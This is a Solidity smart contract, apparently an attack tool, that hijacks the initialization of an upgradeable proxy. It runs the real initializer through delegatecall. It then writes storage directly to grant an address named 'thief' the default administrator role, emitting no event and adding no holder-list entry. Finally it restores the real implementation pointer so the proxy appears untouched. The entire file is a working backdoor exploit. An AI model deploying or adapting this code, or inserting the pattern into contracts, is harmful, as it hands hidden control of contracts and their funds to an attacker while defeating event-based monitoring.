// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {ERC1967Utils} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Utils.sol";

/// @title HidingImplementation
/// @notice Initializes a proxy as the real implementation does, gives one account the administrator's role without an
/// event or an entry in the list of holders, and leaves the proxy with the real implementation.
contract HidingImplementation {
    /// @dev erc7201:openzeppelin.storage.AccessControl, whose first member is the mapping of roles.
    bytes32 private constant ROLES_SLOT = 0x02dd7bc7dec4dceedda775e58dd541e08a116c6c53815c0bd028192f7b626800;

    function initialize(address implementation, bytes calldata initialization, address thief) external {
        (bool success,) = implementation.delegatecall(initialization);
        require(success, "the real initialization failed");
        bytes32 holders = keccak256(abi.encode(bytes32(0), ROLES_SLOT));
        _store(keccak256(abi.encode(thief, holders)), bytes32(uint256(1)));
        _store(ERC1967Utils.IMPLEMENTATION_SLOT, bytes32(uint256(uint160(implementation))));
    }

    function _store(bytes32 slot, bytes32 word) private {
        // solhint-disable-next-line no-inline-assembly
        assembly ("memory-safe") {
            sstore(slot, word)
        }
    }
}
